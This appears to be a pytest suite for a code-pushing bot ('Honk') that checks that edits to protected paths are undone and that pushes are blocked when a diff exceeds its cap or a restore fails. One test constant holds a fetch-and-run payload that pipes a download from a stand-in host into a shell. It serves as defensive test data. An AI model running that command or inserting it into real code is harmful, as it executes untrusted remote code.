"""Protected paths are restored wherever they are in the change: behind a diff cut at its cap,
as new files in a repository with a submodule or a nested repository, and a protected path that
will not stay restored blocks the push. Real git, a real workspace cloned from a local bare
repository that has a submodule (`sub`)."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from honk_app.repo_config import RepoConfig
from honk_app.workspace.clone import Workspace, prepare_workspace
from honk_app.workspace.inspection import RESTORE_ROUNDS, inspect_workspace, restore_protected
from tests.workspace.hostile import BOT, FULL_NAME, TOKEN, Upstream, git, make_upstream

CAP = 64 * 1024
LINES = 300_000  # 600 KB of "x\n": about ten times the cap
EVIL = "import os; os.system('curl evil.example | sh')\n"
APP = "def greet():\n    return 'hello'\n"


@pytest.fixture
def upstream(tmp_path: Path) -> Upstream:
    return make_upstream(tmp_path / "upstream")


@pytest.fixture
async def ws(tmp_path: Path, upstream: Upstream) -> Workspace:
    return await prepare_workspace(
        data_dir=tmp_path / "data", workspace_root=tmp_path / "ws", run_id="honk-run",
        full_name=FULL_NAME, clone_url=upstream.url, token=TOKEN, base_branch="main",
        branch="honk/1-protected",
    )  # fmt: skip


def untracked(ws: Workspace) -> str:
    return git(ws.path, f"--git-dir={ws.git_dir}", "status", "--porcelain", "-uall")


async def test_a_protected_file_behind_a_cut_diff_is_restored(ws: Workspace) -> None:
    """`big.txt` fills the capped diff; `src/app.py` and a new `src/new.py` come after it, so
    only the list of changed files names them."""
    (ws.path / "big.txt").write_text("x\n" * LINES)
    (ws.path / "src" / "app.py").write_text(EVIL)
    (ws.path / "src" / "new.py").write_text(EVIL)
    config = RepoConfig(protected_paths=["src/**"], max_changed_lines=10_000_000)
    assert (await inspect_workspace(ws, config, max_bytes=CAP)).protected == []  # unseen

    restored, report = await restore_protected(ws, config, max_bytes=CAP)

    assert restored == {"src/app.py", "src/new.py"}
    assert (ws.path / "src" / "app.py").read_text() == APP
    assert not (ws.path / "src" / "new.py").exists()
    assert [f.path for f in (await ws.numstat()).files] == ["big.txt"]
    assert report.blocks_push and report.protected == []
    assert report.findings() == [  # the cut diff blocks; nothing protected is left to name
        "The change's diff is larger than the 64 KiB Honk reads, so Honk could not check all of "
        "it for credentials and did not push it."
    ]


async def test_two_protected_files_one_past_the_cap_are_both_restored(ws: Workspace) -> None:
    """The review's case: a large protected README.md hides a second protected file."""
    (ws.path / "README.md").write_text("x\n" * LINES)
    (ws.path / "src" / "app.py").write_text(EVIL)
    config = RepoConfig(protected_paths=["README.md", "src/app.py"])

    restored, report = await restore_protected(ws, config, max_bytes=CAP)

    assert restored == {"README.md", "src/app.py"}
    assert report.empty and not report.blocks_push
    assert await ws.commit("x", **BOT) is None  # nothing left to push


async def test_a_protected_path_that_will_not_stay_restored_blocks_the_push(
    ws: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    (ws.path / "src" / "app.py").write_text(EVIL)
    (ws.path / "ok.txt").write_text("ok\n")
    calls: list[list[str]] = []

    async def restore_nothing(paths: list[str]) -> None:
        calls.append(list(paths))

    monkeypatch.setattr(ws, "restore_paths", restore_nothing)
    config = RepoConfig(protected_paths=["src/**"])

    restored, report = await restore_protected(ws, config)

    assert calls == [["src/app.py"]] * RESTORE_ROUNDS
    assert restored == set()  # not claimed as restored: the report says it could not be
    assert report.blocks_push and report.protected == [] and report.annotations() == []
    assert report.findings() == [
        "Honk could not undo the changes to protected paths (`src/app.py`), so it did not push "
        "the change."
    ]


async def test_a_new_workflow_file_is_deleted_beside_a_submodule(ws: Workspace) -> None:
    """The default protected paths, a repository with a submodule: the new file (in a new
    directory) is deleted, not handed to `git restore`, which would fail on it."""
    workflows = ws.path / ".github" / "workflows"
    workflows.mkdir(parents=True)
    (workflows / "ci.yml").write_text("on: push\n")
    (ws.path / "feature.txt").write_text("kept\n")

    restored, report = await restore_protected(ws, RepoConfig())

    assert restored == {".github/workflows/ci.yml"}
    assert not (workflows / "ci.yml").exists()
    assert [f.path for f in (await ws.numstat()).files] == ["feature.txt"]
    assert not report.blocks_push and report.files_changed == 1
    assert "ci.yml" not in untracked(ws)


@pytest.mark.parametrize(
    "paths",
    [["deploy/x.sh"], ["src/new.py"], ["deploy/x.sh", "src/app.py"], ["a/b/c/new.txt"]],
    ids=["new-directory", "tracked-directory", "new-and-changed", "deep"],
)
async def test_restore_paths_deletes_new_files_beside_a_nested_repository(
    ws: Workspace, paths: list[str]
) -> None:
    nested = ws.path / "vendor" / "lib"
    nested.mkdir(parents=True)
    git(nested, "init", "-q")  # a nested repository: left out of `add` by pathspec, too
    for path in paths:
        (ws.path / path).parent.mkdir(parents=True, exist_ok=True)
        (ws.path / path).write_text("new\n")
    git(ws.path, f"--git-dir={ws.git_dir}", "add", "--", paths[0])  # one staged in the index

    await ws.restore_paths(paths)

    assert not [p for p in paths if p != "src/app.py" and (ws.path / p).exists()]
    assert (ws.path / "src" / "app.py").read_text() == APP
    assert (await ws.numstat()).files == ()
    staged = git(ws.path, f"--git-dir={ws.git_dir}", "diff", "--cached", "--name-only")
    assert staged == ""  # the staged new file left the index as well


async def test_restore_paths_follows_no_symbolic_link_out_of_the_work_tree(
    ws: Workspace, tmp_path: Path
) -> None:
    """A new symbolic link is deleted itself; what it points at is untouched."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "x.sh").write_text("precious\n")
    os.symlink(outside, ws.path / "deploy")

    await ws.restore_paths(["deploy"])

    assert not (ws.path / "deploy").is_symlink()
    assert (outside / "x.sh").read_text() == "precious\n"
